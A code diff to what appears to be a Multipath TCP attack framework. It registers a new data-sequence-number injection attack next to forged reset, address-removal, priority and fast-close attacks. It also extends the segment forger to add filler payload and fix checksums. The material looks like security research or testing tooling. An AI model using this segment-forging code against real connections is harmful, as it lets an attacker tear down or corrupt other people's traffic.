@@ -20,11 +20,13 @@ extern const struct attack_ops attack_mp_tcprst;
 extern const struct attack_ops attack_remove_addr;
 extern const struct attack_ops attack_mp_prio;
 extern const struct attack_ops attack_fastclose;
+extern const struct attack_ops attack_dsn_inject;
 
 /* The registry: one line per attack. */
 static const struct attack_ops *const attack_table[] = {
     &attack_rst,      &attack_mp_tcprst, &attack_remove_addr,
     &attack_mp_prio,  &attack_fastclose,
+    &attack_dsn_inject,
 };
 #define N_ATTACKS (sizeof(attack_table) / sizeof(attack_table[0]))
 
@@ -54,6 +56,7 @@ void mptcp_attack_config_default(mptcp_attack_config *cfg) {
   cfg->guesses = 1;
   cfg->interval_ns = 10000;
   cfg->guess_step = 65535;
+  cfg->payload_len = 100;
 }
 
 uint64_t atk_rand64(struct mptcp_attacker *a) {
@@ -191,6 +194,8 @@ int mptcp_attacker_observe(mptcp_attacker *a, const mptcp_addr *src, const mptcp
     f->from_client = !(th.flags & MPTCP_TH_ACK);
     f->is_join = !!(th.opts & MPTCP_OPT_MP_JOIN);
     f->addr_id = f->is_join ? th.join.addr_id : 0;
+    f->isn = th.seq;
+    f->isn_seen = 1;
     struct atk_flow *r = flow_find(a, &d, &s);
     if (r && (th.flags & MPTCP_TH_ACK)) { /* SYN/ACK: the reverse is the client's */
       r->from_client = 1;
@@ -242,8 +247,12 @@ int mptcp_attacker_write(mptcp_attacker *a, mptcp_segment *seg, uint8_t *buf, si
     fw.synced = 1;
     fw.addr_id = a->cfg.addr_id;
     const struct atk_flow *p = flow_find(a, &v->dst, &v->src);
-    if (p)
+    if (p) {
       fw.addr_id = p->addr_id; /* the peer's id: its SYN/ACK, 0 initially */
+      fw.isn = p->isn;
+      fw.is_join = p->is_join;
+      fw.used = p->isn_seen;
+    }
     h.seq = v->ack; /* the victim's RCV.NXT */
     /* an acknowledgement that acknowledges nothing new: the peer's last
      * one if its direction crosses the link, else the start of the
@@ -259,20 +268,30 @@ int mptcp_attacker_write(mptcp_attacker *a, mptcp_segment *seg, uint8_t *buf, si
   const struct atk_flow *f = &fw;
   h.sport = f->src.port;
   h.dport = f->dst.port;
+  a->payload_len = 0;
   int e = a->ops->write(a, f, &h, now);
   if (e < 0)
     return e;
+  if (e == 1)
+    return 0; /* nothing to forge yet */
   int hl = mptcp_tcphdr_encode(buf, cap, &h);
   if (hl < 0)
     return hl;
-  uint16_t c = f->src.family == 6 ? mptcp_tcp_checksum_ipv6(f->src.ip, f->dst.ip, buf, (size_t)hl)
-                                  : mptcp_tcp_checksum_ipv4(f->src.ip, f->dst.ip, buf, (size_t)hl);
+  size_t plen = a->payload_len;
+  if ((size_t)hl + plen > cap)
+    return MPTCP_ERR_NOBUF;
+  memset(buf + hl, MPTCP_ATTACK_PATTERN, plen);
+  size_t n = (size_t)hl + plen;
+  uint16_t c = f->src.family == 6 ? mptcp_tcp_checksum_ipv6(f->src.ip, f->dst.ip, buf, n)
+                                  : mptcp_tcp_checksum_ipv4(f->src.ip, f->dst.ip, buf, n);
   put_be16(buf + 16, c);
   memset(seg, 0, sizeof(*seg));
   seg->src = f->src;
   seg->dst = f->dst;
-  seg->len = (size_t)hl;
+  seg->len = n;
   seg->hdr_len = (size_t)hl;
+  seg->payload_len = plen;
+  a->st.forged_bytes += plen;
   a->sent++;
   a->st.forged++;
   a->next_ns = now + a->cfg.interval_ns;
